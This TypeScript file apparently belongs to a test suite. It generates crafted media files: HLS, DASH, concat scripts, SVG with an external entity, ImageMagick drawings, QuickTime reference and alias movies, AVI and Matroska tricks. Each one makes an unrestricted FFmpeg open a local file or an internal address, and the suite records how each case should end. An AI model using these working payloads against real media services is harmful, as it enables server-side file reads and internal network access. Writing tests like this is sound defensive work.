/**
 * Files that make an FFmpeg without bounds open what they name: a file of the machine, or an address that only the
 * machine can reach. `target` is what they name.
 */
import { type Box, boxes } from '../clips.ts'
import type { Kit } from './inputs.ts'

export interface Attack {
  what: string
  /** `invalid_media`: it is none of the containers we take. `succeeded`: what it holds itself is encoded. */
  ends: 'invalid_media' | 'succeeded'
  make(target: string, kit: Kit): Promise<Uint8Array | string>
}

const hlsHead = '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n'
const hls = (target: string) => `${hlsHead}#EXTINF:10.0,\n${target}\n#EXT-X-ENDLIST\n`

/** Text, which is no container at all. */
function text(what: string, make: (target: string) => string): Attack {
  return { what, ends: 'invalid_media', make: async (target) => make(target) }
}

const clip = (kit: Kit, ...options: string[]) =>
  kit.ffmpeg('-f', 'lavfi', '-i', 'testsrc2=size=96x64:rate=25:duration=0.4', ...options)
const x264 = ['-c:v', 'libx264', '-preset', 'ultrafast', '-pix_fmt', 'yuv420p']

/** Of which an attack keeps the index and leaves out the samples. */
export const wholeMovie = (kit: Kit) => clip(kit, ...x264, 'clip.mov')

export const attacks: Attack[] = [
  text('an HLS playlist', hls),
  text('an HLS master playlist', (target) => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${target}\n`),
  text(
    'an HLS playlist with a key to fetch',
    (target) =>
      `${hlsHead}#EXT-X-KEY:METHOD=AES-128,URI="${target}",IV=0x0\n#EXTINF:1,\nsource\n#EXT-X-ENDLIST\n`,
  ),
  text(
    'an HLS playlist with an initialisation section to fetch',
    (target) => `${hlsHead}#EXT-X-MAP:URI="${target}"\n#EXTINF:1,\nsource\n#EXT-X-ENDLIST\n`,
  ),
  text('an HLS playlist that joins itself and another file', (target) => hls(`concat:source|${target}`)),
  text('an HLS playlist that wants a part of another file', (target) =>
    hls(`subfile,,start,0,end,9,,:${target}`),
  ),
  text('an HLS playlist that wants another file decrypted', (target) => hls(`crypto:${target}`)),
  text('an HLS playlist in the place of the data of a playlist', (target) => hls(`data:,${hls(target)}`)),
  text('a concat script', (target) => `ffconcat version 1.0\nfile '${target}'\nduration 10\n`),
  text(
    'a DASH manifest',
    (target) =>
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${target}</BaseURL><SegmentBase indexRange="0-100"/></Representation></AdaptationSet></Period></MPD>`,
  ),
  text('a Smooth Streaming manifest', (target) => `<SmoothStreamingMedia Url="${target}"/>`),
  text(
    'an SVG with a picture',
    (target) => `<svg xmlns="http://www.w3.org/2000/svg"><image href="${target}"/></svg>`,
  ),
  text(
    'an SVG with an entity',
    (target) => `<!DOCTYPE svg [<!ENTITY x SYSTEM "${target}">]><svg><text>&x;</text></svg>`,
  ),
  text(
    'a drawing of ImageMagick',
    (target) => `push graphic-context\nimage over 0,0 0,0 'url(${target})'\npop graphic-context\n`,
  ),
  text(
    'a Windows Media playlist',
    (target) => `<asx version="3.0"><entry><ref href="${target}"/></entry></asx>`,
  ),
  text('a reference file of Windows Media', (target) => `[Reference]\nRef1=${target}\n`),
  text('a Real playlist', (target) => `${target}\n--stop--\n`),
  text('a SMIL presentation', (target) => `<smil><body><video src="${target}"/></body></smil>`),
  text(
    'a session description',
    (target) =>
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:${target}\nm=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
  ),
  text('an AviSynth script', (target) => `DirectShowSource("${target}")\n`),
  text('a filter graph', (target) => `movie=filename='${target}'\n`),
  {
    what: 'a playlist with a transport stream behind it',
    ends: 'invalid_media',
    make: async (target, kit) =>
      Buffer.concat([Buffer.from(hls(target)), await clip(kit, ...x264, 'clip.ts')]),
  },
  {
    what: 'a QuickTime reference movie',
    ends: 'invalid_media',
    make: async (target) => referenceMovie(target),
  },
  {
    what: 'an AVI with a playlist for subtitles',
    ends: 'succeeded',
    make: async (target, kit) =>
      withSubtitles(await clip(kit, '-c:v', 'mjpeg', '-pix_fmt', 'yuvj420p', 'c.avi'), hls(target)),
  },
  {
    what: 'a QuickTime file whose samples lie in another file',
    ends: 'invalid_media',
    make: async (target, kit) => withAlias(await wholeMovie(kit), target),
  },
  {
    what: 'a Matroska file with a playlist as an attachment, and subtitles that include',
    ends: 'succeeded',
    make: async (target, kit) => {
      await Bun.write(kit.path('list.m3u8'), hls(target))
      const dialogue = `Dialogue: 0,0:00:00.00,0:00:00.40,Default,,0,0,0,,{\\fn${target}\\p1}m 0 0 l 9 9\n`
      const format = 'Format: Layer, Start, End, Style, Name, MarginL, MarginR, MarginV, Effect, Text\n'
      await Bun.write(kit.path('s.ass'), `[Script Info]\nScriptType: v4.00+\n[Events]\n${format}${dialogue}`)
      const attach = [
        '-attach',
        kit.path('list.m3u8'),
        '-metadata:s:t',
        'mimetype=application/vnd.apple.mpegurl',
      ]
      return await clip(kit, '-i', kit.path('s.ass'), ...attach, ...x264, '-c:s', 'copy', 'attached.mkv')
    },
  },
  {
    what: 'a Matroska file that goes on in another, by name',
    ends: 'succeeded',
    make: async (target, kit) => await clip(kit, ...x264, '-metadata', `next_filename=${target}`, 'next.mkv'),
  },
]

/** `moov` with `rmra` in it (QuickTime File Format, Reference Movies). */
function referenceMovie(target: string): Uint8Array {
  const url = Buffer.from(`${target}\0`)
  const reference = Buffer.concat([Buffer.from('\0\0\0\0url '), uint32(url.length), url])
  const movie = box('moov', box('rmra', box('rmda', box('rdrf', reference))))
  return Buffer.concat([box('ftyp', Buffer.from('qt  \0\0\0\0qt  ')), movie])
}

/**
 * Puts a stream of subtitles with one packet into an AVI: `GAB2`, in which players look for the file of subtitles. FFmpeg
 * before 2017 took any playlist for one.
 */
function withSubtitles(avi: Uint8Array, subtitles: string): Uint8Array {
  const file = Buffer.from(avi)
  const name = Buffer.from('x\0', 'utf16le')
  const content = Buffer.from(subtitles)
  const packet = Buffer.concat([
    ...[Buffer.from('GAB2\0'), uint16le(2), uint32le(name.length), name],
    ...[uint16le(4), uint32le(content.length), content],
  ])
  const header = Buffer.alloc(56)
  header.write('txts', 0)
  header.writeUInt32LE(1, 20)
  header.writeUInt32LE(25, 24)
  header.writeUInt32LE(1, 32)
  const streams = riffList('strl', Buffer.concat([riff('strh', header), riff('strf', Buffer.alloc(0))]))
  const endOfHeaders = 20 + file.readUInt32LE(16)
  const movieAt = file.indexOf('movi')
  const packetChunk = riff('01tx', packet)
  const headers = Buffer.concat([file.subarray(12, endOfHeaders), streams])
  headers.writeUInt32LE(headers.length - 8, 4)
  // Streams of the main header: dwStreams.
  headers.writeUInt32LE(2, 12 + 8 + 24)
  const movie = Buffer.concat([
    file.subarray(movieAt - 8, movieAt + 4),
    packetChunk,
    file.subarray(movieAt + 4),
  ])
  movie.writeUInt32LE(file.readUInt32LE(movieAt - 4) + packetChunk.length, 4)
  const body = Buffer.concat([Buffer.from('AVI '), headers, file.subarray(endOfHeaders, movieAt - 8), movie])
  return riff('RIFF', body)
}

/**
 * Makes the data reference of a movie whose index is at its end an alias (QuickTime File Format, Data Reference Atoms), and
 * its own samples nothing.
 */
function withAlias(movie: Uint8Array, target: string): Uint8Array {
  const path = Buffer.from(target)
  const alias = Buffer.concat([
    ...[Buffer.alloc(10), Buffer.from('\x01x'.padEnd(28, '\0'), 'latin1'), Buffer.alloc(12)],
    ...[
      Buffer.from('\x01x'.padEnd(64, '\0'), 'latin1'),
      Buffer.alloc(16),
      uint16(1),
      uint16(1),
      Buffer.alloc(16),
    ],
    ...[uint16(2), uint16(path.length), path, Buffer.alloc(path.length & 1), uint16(0xffff), uint16(0)],
  ])
  const reference = Buffer.concat([uint32(0), uint32(1), box('alis', Buffer.concat([uint32(0), alias]))])
  const bytes = Buffer.from(movie)
  const data = boxes(bytes).find(({ type }) => type === 'mdat')
  if (data !== undefined) bytes.fill(0, data.offset + 8, data.offset + data.sizeBytes)
  return replaced(bytes, ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref'], reference)
}

/** The first box at the path gets another content, and those around it their sizes. */
function replaced(bytes: Buffer, [type = '', ...rest]: string[], content: Buffer): Buffer {
  const found = boxes(bytes).find((each: Box) => each.type === type)
  if (found === undefined) throw new Error(`no box ${type}`)
  const end = found.offset + found.sizeBytes
  const inner = bytes.subarray(found.offset + 8, end)
  const changed = rest.length === 0 ? content : replaced(inner, rest, content)
  return Buffer.concat([bytes.subarray(0, found.offset), box(type, changed), bytes.subarray(end)])
}

const box = (type: string, content: Buffer) =>
  Buffer.concat([uint32(content.length + 8), Buffer.from(type, 'latin1'), content])
const riff = (type: string, content: Buffer) =>
  Buffer.concat([Buffer.from(type), uint32le(content.length), content, Buffer.alloc(content.length & 1)])
const riffList = (type: string, content: Buffer) => riff('LIST', Buffer.concat([Buffer.from(type), content]))

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

function uint32le(value: number): Buffer {
  return uint32(value).reverse()
}

function uint16(value: number): Buffer {
  return uint32(value).subarray(2)
}

function uint16le(value: number): Buffer {
  return uint16(value).reverse()
}
